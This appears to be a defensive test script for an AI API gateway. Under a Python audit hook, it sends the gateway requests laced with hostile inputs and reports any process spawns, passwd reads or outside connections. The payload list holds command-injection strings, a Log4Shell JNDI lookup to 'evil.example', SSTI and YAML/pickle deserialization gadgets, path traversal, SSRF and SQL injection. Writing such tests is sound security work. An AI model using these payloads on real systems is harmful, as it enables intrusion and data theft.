"""A gateway under the interpreter's own audit hook, asked for everything a gateway must not do; prints what it did.

    python -m tests.faults.audited_gateway FOLDER

A process of its own, because an audit hook stays for ever.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

import aiohttp

from dragoman.store import SqliteStore
from tests.faults.harness import KEY, FakeGoogle, Running, answers, chunk, gateway
from tests.faults.test_hostile_bytes import MARK, PATHS, spoiled

CANARY = "canary"
ELSEWHERE = "evil.example"
_NOBODY = 9  # a port where nobody listens
_SPAWN = (
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
    "os.forkpty",
    "pty.spawn",
)
_READ = ("pickle.find_class", "ctypes.dlopen", "code.__new__", "shutil.unpack_archive", "webbrowser.open")


class Watch:
    """What happened while it was `on` and should not have."""

    def __init__(self, folder: str) -> None:
        self.on = False
        self.seen: list[str] = []
        self._folder = folder

    def __call__(self, event: str, args: tuple[Any, ...]) -> None:
        if self.on and self._is_bad(event, args):
            self.seen.append(f"{event} {args!r}"[:300])

    def _is_bad(self, event: str, args: tuple[Any, ...]) -> bool:
        match event:
            case "open":
                return "passwd" in str(args[0]) or CANARY in str(args[0])
            case "compile":  # annotations of ours are evaluated too, when they are first needed
                return any(word in str(args[0]) for word in ("touch", "jndi", "passwd", ELSEWHERE))
            case "socket.getaddrinfo" | "socket.gethostbyname":
                return ELSEWHERE in str(args[0])
            case "socket.connect":
                return "127.0.0.1" not in str(args[1]) or args[1][1] == _NOBODY
        return event in _SPAWN or event in _READ


def _payloads(folder: str) -> Iterator[str]:
    touch = f"touch {folder}/{CANARY}"
    return itertools.cycle(
        (
            f"$({touch})",
            f"`{touch}`",
            f"'; {touch} #",
            f"__import__('os').system('{touch}')",
            f"!!python/object/apply:os.system ['{touch}']",
            f"{{{{ cycler.__init__.__globals__.os.popen('{touch}').read() }}}}",
            f"${{jndi:ldap://{ELSEWHERE}/a}}",
            "file:///etc/passwd",
            "../../../../../../etc/passwd",
            "stdio:///bin/sh",
            f"http://{ELSEWHERE}/image.png",
            f"http://127.0.0.1:{_NOBODY}/latest/meta-data",
            "'; DROP TABLE meter; --",
            "gASVBAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOULg==",
        )
    )


def _wishes(payload: str) -> list[dict[str, Any]]:
    """What other gateways have fields for."""
    server = {"command": payload, "args": ["-c", payload], "env": {"LD_PRELOAD": payload}, "url": payload}
    return [
        {"mcp_servers": [{"type": "stdio", "name": "x", **server}]},
        {"tools": [{"type": "mcp", "server_label": "x", "server_url": payload, **server}]},
        {"tools": [{"type": "code_interpreter", "container": payload}]},
        {"tools": [{"type": "bash_20250124", "name": "bash"}, {"type": "web_fetch", "url": payload}]},
        {"api_base": payload, "base_url": payload, "proxy": payload, "extra_headers": {"host": payload}},
        {"guardrails": [payload], "callbacks": [payload], "hooks": {"pre": payload}, "plugins": [payload]},
        {"custom_code": payload, "template": payload, "prompt_template": payload, "jinja": payload},
        {"file": payload, "files": [payload], "path": payload, "root": payload, "cwd": payload},
        {"litellm_params": {"api_base": payload, "custom_llm_provider": payload}},
    ]


def _requests(folder: str) -> Iterator[tuple[str, str, Any]]:
    payloads = _payloads(folder)
    for path, body in PATHS.items():
        for one in spoiled(body):
            yield "POST", path, json.loads(json.dumps(one).replace(MARK, json.dumps(next(payloads))[1:-1]))
        for _ in range(14):
            for more in _wishes(next(payloads)):
                yield "POST", path, {**body, **more}
    for _ in range(14):
        word = quote(next(payloads), safe="")
        for path in (
            "/v1/responses/{}",
            "/v1/conversations/{}",
            "/v1/models/{}",
            "/v1/sessions/{}/tools",
            "/{}",
        ):
            yield "GET", path.format(word), None
        yield "POST", f"/mcp-rest/test/connection?command={word}", {"command": word}


async def _ask(running: Running, method: str, path: str, body: Any, word: str) -> int:
    headers = {"x-api-key": KEY, "user-agent": word, "anthropic-beta": word, "x-dragoman-session": word}
    headers |= {"x-claude-code-session-id": word, "x-forwarded-host": word, "cookie": word, "referer": word}
    async with running.session.request(
        method, running.url + path, json=body if method == "POST" else None, headers=headers
    ) as response:
        await response.read()
        return response.status


async def main(folder: str) -> None:
    watch = Watch(folder)
    sys.addaudithook(watch)
    google = FakeGoogle(answers(json.loads(chunk({"text": "Hello"}, finish="STOP")[6:])))
    store = SqliteStore(Path(folder) / "state.db", max_age_s=9e9, max_bytes=1 << 28, now=time.time)
    payloads = _payloads(folder)
    statuses: dict[int, int] = {}
    async with gateway(google, store=store) as running:
        for path, body in PATHS.items():  # whatever is loaded late is loaded now
            with suppress(aiohttp.ClientError):
                await _ask(running, "POST", path, body, "warm")
        watch.on = True
        for method, path, body in _requests(folder):
            status = await _ask(running, method, path, body, next(payloads))
            statuses[status] = statuses.get(status, 0) + 1
        watch.on = False
    sys.stdout.write(json.dumps({"seen": watch.seen, "statuses": statuses}) + "\n")


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
